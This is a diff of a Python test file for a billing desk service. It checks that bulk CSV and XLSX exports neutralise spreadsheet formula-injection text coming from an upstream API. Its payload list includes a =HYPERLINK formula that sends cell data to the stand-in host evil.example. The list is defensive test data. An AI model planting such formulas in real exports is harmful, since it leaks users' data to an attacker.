@@ -4,8 +4,10 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import timedelta
 from pathlib import Path
 
+import openpyxl
 import pandas as pd
 import pytest
 
@@ -13,6 +15,7 @@ from services.audit import AuditFilter, AuditLog
 from services.auth.roles import Actor, Role
 from services.desk import BillingDesk
 from services.exports import csv_bytes, neutralise
+from services.jobs.worker import JobWorker
 from services.payments.client import PaymentsClient
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
@@ -56,13 +59,17 @@ def test_hostile_text_from_the_api_is_inert_in_the_bulk_download(client: Payment
                             address={"line1": formula, "city": formula})
     desk = BillingDesk(client, AuditLog(f"sqlite:///{tmp_path / 'audit.sqlite3'}"))
     support = Actor("sam", Role.SUPPORT)
-    lookup = desk.start_bulk_lookup(support, organizations)
-    lookup.wait(60)
+    worker = JobWorker(desk.jobs, client, lease=timedelta(seconds=2), heartbeat_every=0.3)
+    lookup = desk.start_bulk_job(support, organizations)
+    assert worker.run_once()
     control.add_fault("customer-info", status=422, code="blocked", message=FORMULAS[0], count=1)
-    failed = desk.start_bulk_lookup(support, [organizations[0]])
-    failed.wait(60)
-    rows = list(csv.DictReader(io.StringIO(desk.bulk_csv(support, lookup).decode(), newline="")))
-    rows += list(csv.DictReader(io.StringIO(desk.bulk_csv(support, failed).decode(), newline="")))
+    failed = desk.start_bulk_job(support, [organizations[0]])
+    assert worker.run_once()
+    rows = list(csv.DictReader(io.StringIO(desk.bulk_job_export(support, lookup).decode(), newline="")))
+    rows += list(csv.DictReader(io.StringIO(desk.bulk_job_export(support, failed).decode(), newline="")))
+    sheet = openpyxl.load_workbook(io.BytesIO(desk.bulk_job_export(support, lookup, "results", "xlsx"))).active
+    texts = [cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+    assert texts and not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
     cells = [(column, value) for row in rows for column, value in row.items()]
     assert len(rows) == len(organizations) + 1
     live = [(column, value) for column, value in cells if value.startswith(("=", "+", "-", "@", "\t", "\r"))]
